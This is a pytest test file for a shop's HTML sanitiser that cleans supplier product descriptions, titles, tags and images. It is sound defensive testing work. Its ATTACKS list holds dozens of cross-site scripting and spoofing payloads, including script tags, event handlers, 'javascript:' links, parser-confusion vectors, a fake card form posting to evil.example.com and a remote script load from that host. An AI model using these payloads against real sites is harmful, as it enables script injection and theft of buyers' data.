"""A supplier's texts and pictures as a shop may show them."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from orderwright.domain.catalogue import Article, SkuRecord
from orderwright.domain.goods_texts import (
    ALLOWED_ATTRIBUTES,
    ALLOWED_TAGS,
    MOST_OF_A_DESCRIPTION,
    clean_description,
    clean_goods,
)

PICTURE = "https://images.example.com/1.jpg"


class _Page(HTMLParser):
    """The elements of a text, each with its attributes."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.seen: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append((tag, dict(attrs)))


def _is_harmless(html: str) -> bool:
    for tag, attributes in _Page(html).seen:
        if tag not in ALLOWED_TAGS or not set(attributes) <= ALLOWED_ATTRIBUTES.get(tag, set()):
            return False
        if tag == "img" and not str(attributes.get("src", "")).startswith("https://"):
            return False
    return True


ATTACKS = [
    # code
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example.com/x.js>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<svg><script>alert(1)</script></svg>", "<svg/onload=alert(1)>", "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<style>body{display:none}</style>", "<style>@import url(https://evil.example.com)</style>", "<template><script>1</script>",
    # handlers
    "<img src=x onerror=alert(1)>", f'<img src="{PICTURE}" onload="alert(1)">', "<p onclick=alert(1)>x</p>",
    "<b/onmouseover=alert(1)>x</b>", "<body onload=alert(1)>", "<details open ontoggle=alert(1)>x", "<td OnFocus='1'>",
    # frames and foreign content
    '<iframe src="https://evil.example.com"></iframe>', "<iframe srcdoc='<script>1</script>'>", "<object data=x></object>",
    "<embed src=x>", "<applet code=x>", "<frameset><frame src=x></frameset>", "<video src=x onerror=1></video>", "<audio src=x>",
    # style, and what covers or fakes the page
    '<p style="position:fixed;inset:0">x</p>', '<div class="cart" id="price">x</div>', "<marquee>x</marquee>",
    "<form action=https://evil.example.com><input name=card><button>Pay</button></form>", "<textarea>x</textarea>",
    "<base href=https://evil.example.com>", '<meta http-equiv="refresh" content="0;url=https://evil.example.com">',
    "<link rel=stylesheet href=https://evil.example.com/x.css>",
    # links
    '<a href="javascript:alert(1)">x</a>', '<a href=" jav&#x09;ascript:alert(1)">x</a>', '<a href="https://evil.example.com">x</a>',
    '<img src="javascript:alert(1)">', '<img src="http://images.example.com/1.jpg">', '<img src="data:image/png;base64,AAAA">',
    '<img src="//images.example.com/1.jpg">', '<img src="1.jpg">', f'<img srcset="{PICTURE} 2x">', "<img usemap=#x ismap>",
    # readers that disagree
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', "<!--><img src=x onerror=alert(1)>-->",
    '<img alt="x><script>alert(1)</script>">', '<img alt="&quot;><script>alert(1)</script>" src=x>',
    "<![CDATA[<script>1</script>]]>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<title><img src=x onerror=alert(1)></title>", "<xmp><script>1</script></xmp>", "<plaintext><script>1</script>", "<? x ?><p",
    "<",
]  # fmt: skip


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_description_keeps_its_words_and_nothing_that_runs_frames_covers_or_leads_away(attack: str) -> None:
    cleaned, _ = clean_description(f"<p>Bright</p>{attack}")
    assert cleaned.startswith("<p>Bright</p>")
    assert _is_harmless(cleaned), cleaned
    assert clean_description(cleaned)[0] == cleaned, "once more changes nothing"


@given(
    st.lists(
        st.sampled_from([*ATTACKS, "<p>", "</p>", '"', "'", "<b>", "--", "x=", "&lt;", "&#60;", "\x00"]), max_size=8
    )
)
def test_no_mixture_of_attacks_comes_through(parts: list[str]) -> None:
    assert _is_harmless(clean_description("".join(parts))[0])


@pytest.mark.parametrize(
    "html",
    [
        "<p>Bright</p>",
        "<h3>Data</h3><table><tbody><tr><th>Lumen</th><td colspan=\"2\">400</td></tr></tbody></table>",
        f'<ul><li><b>Light</b>, <em>small</em></li></ul><img src="{PICTURE}" alt="a lamp" width="400">',
        "Plain words\non two lines, 5 &lt; 6 &amp; 7",
    ],
)  # fmt: skip
def test_ordinary_markup_stays_as_it_is(html: str) -> None:
    assert clean_description(html) == (html, [])


@pytest.mark.parametrize(
    ("html", "words"),
    [
        ("<script>1</script><p onclick=1 style=x>a</p>", ["of the description onclick, script, style"]),
        ("<p>price on sale = 5</p>", []),
        (
            f'<img src="{PICTURE}"><img src="http://a.example.com/1.jpg" alt="b"><img>',
            ["pictures in the description whose address is not plain https: 2"],
        ),
    ],
)
def test_what_was_left_out_of_a_description_is_said_in_words(html: str, words: list[str]) -> None:
    assert clean_description(html)[1] == words


@pytest.mark.parametrize(
    "html",
    ["x" * (MOST_OF_A_DESCRIPTION + 1), "<b><i><u><s>" + "<p>" * 30_000, "&" * 90_000],
    ids=["long", "longer when it is mended", "longer when it is escaped"],
)
def test_a_description_that_is_too_long_for_an_item_is_left_out_and_said(html: str) -> None:
    assert clean_description(html) == ("", ["the description, longer than 100000 characters"])


def test_a_picture_that_stands_in_the_text_itself_takes_no_description_along() -> None:
    html = f'<p>Bright</p><img src="data:image/png;base64,{"A" * 300_000}">'
    assert clean_description(html) == (
        "<p>Bright</p>",
        ["pictures in the description whose address is not plain https: 1"],
    )


def test_half_a_letter_stops_no_import() -> None:
    assert clean_description("<p>\ud83d</p>") == ("<p>?</p>", [])


def test_plain_texts_lose_their_tags_and_pictures_need_https() -> None:
    record = SkuRecord(
        sku="L-1",
        title="Lamp <script>alert(1)</script>\x1b[31m",
        images=(
            PICTURE,
            "http://images.example.com/2.jpg",
            "data:image/png;base64,AAAA",
            "//images.example.com/3.jpg",
            "https://u:p@images.example.com/4.jpg",
            "javascript:alert(1)",
        ),
        category="Lights <b>&</b> more",
        tags=("<i>new</i>", "<br>", "new"),
        brand="<img src=x onerror=alert(1)>Nord",
        attributes={"<u>Colour</u>": "<a href=x>red</a>"},
    )
    cleaned, left_out = clean_goods(record)
    assert cleaned == record.model_copy(
        update={
            "title": "Lamp [31m",
            "images": (PICTURE,),
            "category": "Lights & more",
            "tags": ("new",),
            "brand": "Nord",
            "attributes": {"Colour": "red"},
        }
    )
    assert left_out == "left out: pictures whose address is not plain https: 5"
    assert clean_goods(cleaned) == (cleaned, "")


@pytest.mark.parametrize(
    ("choices", "clean"),
    [
        ({"Colour<b>": "<i>Black</i>"}, {"Colour": "Black"}),
        ({"Colour": "<b></b>"}, None),
        ({"<b></b>": "Black"}, None),
        ({"Colour": "Black", "<b>Colour</b>": "White"}, None),
    ],
)
def test_what_buyers_choose_is_plain_text_or_the_sku_is_sold_alone(
    choices: dict[str, str], clean: dict[str, str] | None
) -> None:
    article = Article(key="a", title="Lamp<script>x</script>", choices=choices)
    record = clean_goods(SkuRecord(sku="L", title="Lamp", article=article))[0]
    assert record.article == (None if clean is None else Article(key="a", title="Lamp", choices=clean))


def test_a_title_of_markup_alone_is_called_by_its_sku() -> None:
    assert clean_goods(SkuRecord(sku="L-1", title="<br><hr>"))[0].title == "L-1"
